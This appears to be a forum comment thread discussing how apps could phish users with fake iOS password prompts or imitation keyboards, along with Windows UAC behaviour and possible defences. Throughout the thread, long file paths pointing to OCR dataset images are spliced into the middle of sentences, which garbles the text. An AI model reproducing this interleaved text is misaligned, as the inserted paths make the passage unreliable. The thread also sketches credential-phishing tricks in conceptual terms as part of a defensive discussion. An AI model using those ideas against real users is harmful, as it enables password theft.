I think the person you're responding to isn't familiar with relaxedsocial environments. Seriously, it's so hard to find empathy in security research.

> Seriously, it's so hard to find empathy in security research.

If I ever get a job in that sphere, I'll let you know.

> In a relaxed social environment, you will probably not be that rude

Perhaps I might phrase it slightly differently depending on who it was but the sentiment would be exactly the same[1] - a blanket refusal.

[1] Nowadays - back when I was on the Nokias or SE phones, sure, use my phone as a calculator, go nuts.

"Yes, but no, use your own."

No one has touched my phone while it was unlocked since middle school.

Most of the people have girlfriends and friends.

Believe me, it is possible to have a security-conscious, trustworthy girlfriend who respects your privacy if you do the same to her.

And I've never given my wife a single password or passcode or PIN. But she can still use my damn phone or computer if she wants, as can my friends. Worst case scenario, I get a 55 gallon drum of lube ordered on my Amazon account.

For me, the principle is I never divulge credentials, but I trust people I know. Therefore I see no conflict with adding my wife's fingerprint to TouchID, for example. (though it's not worth the effort of re-enrolling her every time I get a new device or a new screen or reinstall from scratch, so that's long lost).

If someone has access to my unlocked phone, there are worse things they can do than installing a malicious app. First of all, apps are generally tested before they appear in the store. I don't think attackers would install an app if they can just steal the data directly.

If the data they want is a recording of your next client meeting, installing an app (possibly one that exploits a not-yet well-known bug, say a root exploit that only works from an app) might be one way to do it.

Remember [1]? Imagine an exploit not targeting safari, but somehow vulnerable via an app, a la [2].

[1] https://citizenlab.ca/2016/08/million-dollar-dissident-iphon...

[2] http://iphone.appleinsider.com/articles/16/08/29/apple-brief...

Ios apps cannot log keys at all. They're sandboxed.

Not entirely -- keyboard apps can intercept keystrokes and send them to a remote server.

As far as I can remember, 3rd party keyboards are not allowed for password prompts.Only when those fields are appropriately annotated, which anecdotally I've run into plenty that are not tagged correctly.

Keyboard apps explicitly have to ask for “full access” and you need to opt-in. Also, apps can block 3rd party keyboards, not sure how many secure / banking apps do that though.

What's stopping an app from imitating the keyboard?

Fundamentally, we're talking about imbuing meaning to patterns of light on a screen. And apps can write on any part of the screen. I suspect the only way to battle this is to have a separate screen which is controllable only from the system.

And even many people will fall for passwordprompts in the main screen.

> What's stoppingan app from imitating the keyboard?

What is the end goal of that? If you have control of the screen (aka are the foreground app), why would you need to emulate the keyboard? If you aren't the foreground app, then you aren't going to be able to render a keyboard on the screen (on iOS anyway).

> why would you need to emulate the keyboard?

to avoid the OS restrictions on which keyboard app is used for passwords.

> you aren't going to be able to render a keyboard on the screen (on iOS anyway).Are you saying it is impossible to render the pixels and accept screen touches in a way that it acts and looks like a "real" keyboard app?

Dude. Stop and think for a moment. If I am able to render anything on the screen at all, it means I’m the foreground app on iOS. I don’t need to fake being a keyboard, because I can use the real thing Apple provides. So no, I’m not saying it’s impossible if I can render anything at all, what I’m saying is that outside being the foreground app, rendering anything on screen is impossible outside very tightly controlled interfaces (like custom keyboards that this thread was about before you side tracked it).

I am only talking about what the app does when it is the foreground app. I should have addressed that in the previous comment.

It's not a sidetrack, because that's what theactual article is about.

So if you really were talking about the foreground app and not just covering now, then why does one need to make a fake keyboard!? That makes no sense at all.

I was just making a more fundamental point (see my middle para) and decided to hang it off this thread rather than making it top level.

I didn't have a specific scenario in mind.

But to address your question ...

Say a user is reassured because he knows that only approved keyboard apps can accept passwords.

This malware app pops up a password prompt AND some images and input buttons that looks very much like a 'proper' keyboard.

The user enters his password.

Game over.

It is free in cost, not in terms of your privacy.

For example let's say you handed your phone to your kid, they downloaded a free app, gave that app your entire contact list, andthen that app spammed everyone you know? For the sake of example let's call that app LinkedIn.

> For the sake of example let's call that app LinkedIn.

It’s bad that LinkedIn has such a reputation that I automatically assume they likely did just as you alluded that they might’ve done.


They were pioneers in the field!

Let's say you already had LinkedIn installed without contact permissions, and your kid flipped that switch and spammed everyone you knew?

Maybe Apple should require authentication to grant those permissions.... Of course, then we're back to the problem of password fatigue.

That, or logged your gps location to a Web service? Maybe along with wlan ssids and Mac addresses?

There's a toggle (in Settings > App Store, iirc) to ask for auth only on non-free (as in beer) apps/IAPs.

Edit: apparently there's no toggle if you have Touch ID enabled. You have to disable it for the App Store for this to work, but I think Touch ID is fast enough anyway...

True, but those savvy enough to find that will probably notice when an application requests a password artificially.

What if the phone/iPad belongs to your kid and you don't want her to be installing apps without vetting them beforehand? That's a legitimate reason to ask for prompts. Should be a setting though (if it's not already)

Then you can enable parental controls

One solution would be for an OS to never have such a popup that requested credentials to be entered right there. Instead, the popup should just say "Visit System Settings to enter your account password to download whatever."

This would be similar to measures companies say in emails, "we never ask for your password, always visit our site directly," etc.

What’sannoying about the iTunes login is they expect you to know your password. I use a password manager, I’m not about to memorize my iTunes pass. Naturally those logins windows don’t work with password managers either.

Better solution would be not having login windows at all and make it all in the app and do a sort of oauth type flow if the system needs to share it.

The single biggest point of confusion for newcomers to iOS in my experience is the dichotomy between the iTunes password and the device pass code and internalizing which is needed when.

The iTunes password is needed so rarely these days that most people really struggle to even remember setting it.

IMO, the iTunes password should be eliminated entirely. But I have no idea how to handle the activation lock situation if no authenticated device is on hand.

> IMO, the iTunes password should be eliminated entirely.

Whoa whoa whoa - hold on there. Your ‘iTunes password’ protects purchases in the App Store and iTunes media stores, access to the iCloud website, your iCloud email, iMessages, app data such as notes and contacts, third party app data, andfreaking backups of your entire device.

What exactly would you suggest Apple do to eliminate that account? You might as well say that google should eliminate their gmail passwords, or that Dropbox should eliminate the account password.

Some of those could be handled by the device password (although apple might have dug themselves a hole with touch I'd there) - the other with an one time password generator whose secret was available to trusted ios devices? For Apple services, that might even be simplified to a callback system; mail app ondesktop shows a token "bushy eyebrows", ios auth app display the token "busy eyebrows" and a login/cancel prompt. The actual auth can be done in a challenge - response fashion between the service and the ios device. Another use for the Apple watch...

Should just be handled by icloud instead of iTunes, even though these days it's the same thing

People with kids need two levels of access.

Lots of tools and apps require knowing passwords; my password manager just lets me press "Copy" when I open it to a particular login, and then I paste it into the iTunes prompt or elsewhere. A little extra hassle but I don't need to remember the password.

Thats what I do, but when you have a modal window like the one in the article, you cant get back to it if you hit cancel to open your password manager. I guess you could copy your password and hope it pops back up...

My personal password strategy requires that I do, in fact, have to recall from memory a small number of secure passwords (device access passwords, ssh key passwords, password manager password and one web service password (iCloud)).

My memorized password count is less than 10 and they're all long and secure (and completely different from one another). It's unfortunate that iCloud is on that list, but it's the only one that shouldn't really belong there, so I'm okay with it.

>You can do this with the Windows admin password prompt

doesn't work when UAC is enabled. Even if you were able to phish the administrator password, trying to login as the administrator using that password (such as by using runas), you'll still end up with a restricted access token. You still need to somehow click "yes" on UAC to get administrative access, which is no small feat because that prompt is on the securedesktop.

That's interesting. I haven't used Windows since UAC came out. Is a Windows password useless to an application then?

UAC came out over 10 years ago! In any case, NT is structured quite differently than the typical UNIX variants. When you log in, NT creates two access tokens for you. One with all your privileges, and one with admin rights masked out. When a process is launched it uses the non-admin one by default, even if you are the admin user.

When a thread requires admin privileges, NT will first check if your unmasked token already has those rights, in which case, it will prompt you (UAC) for permission to use the token. This is unlike traditional UNIX where the 'effective user' changes to root on a global level, not just per-thread. So you get 10 minutes (or w/e) as root to do your thing.

For all of Microsoft'sfaults, I can't count how many feats of engineering they've pulled off to maintain backwards compatibility.

you might be able to work around it if RDP is enabled, by using the credentials to start a RDP session, then clicking the UAC prompt from within the RDP session. problem is, RDP isn't enabled by default, and you need admin permissions to enable it.

> doesn't work when UAC is enabled

Which is funny because disabling UAC is one of the first things I (and many many others) have done since Windows 7 to make using Windows a little more tolerable.

I could understand disabling UAC on Vista, but I find it perfectly sensible since Win7. Also blame ancient programs which request administrator access without reason.

>I find it perfectly sensible since Win7

funny thing is, the thing that made it "sensible" since win7 also makes it insecure. if you care about security, it's prompt for everything or nothing.


That's like running everything as root or passwordless sudo. Seriously: don't do that.

I really like the solution that includes the iOS background — the os password dialogues should adopt this approach immediately. Zoom out to a view that includes springboard and your background image, and maybe include a preview of the app in a little window that the user can tap to return to the app rather than a non-contextual “cancel” button if the password prompt is related to the app context for some reason.

I've seen this at banks that do something similar (and it's probably for this reason). They include a user-selected picture at logon, so if you see the wrong picture, you know that their logon page is being spoofed.

I have no idea of the feasibility of locking down some piece of user data such that the OS can display it for privileged access, but random apps cannot, but this seems like a reasonable solution. Include some user selected word or picture in the title bar of the settings dialog so that users know its the real one.

Those pictures can easily be proxies by a spoofer, so I don't see the point of them.

Those pictures are indeed useless when used by banks, since they do nothing against MITM. But for the attack described in the OP they would actually be a reasonable defense, since this sort of indiscriminate low-privilege phishing can't intercept requests between the user and the system in order to determine the secret image.

I think the best way to resolve this is a hardware button that the user has to press.

So the dialog pops up and says "please press button then enter your password". User needs to press the button for the textbox to appear. This hardware button auto-closes whatever the active application if the active application is not the system dialog.This way you have a hardware control verifying the dialog isn't a phishingattack.

Of course, attackers could mimic the dialog after the button had been pressed if it were a genuine dialog. But as long as you can train your users into only entering their password after they've pressed the button then hopefully most might realise something was amiss if requested for a password without the button press.

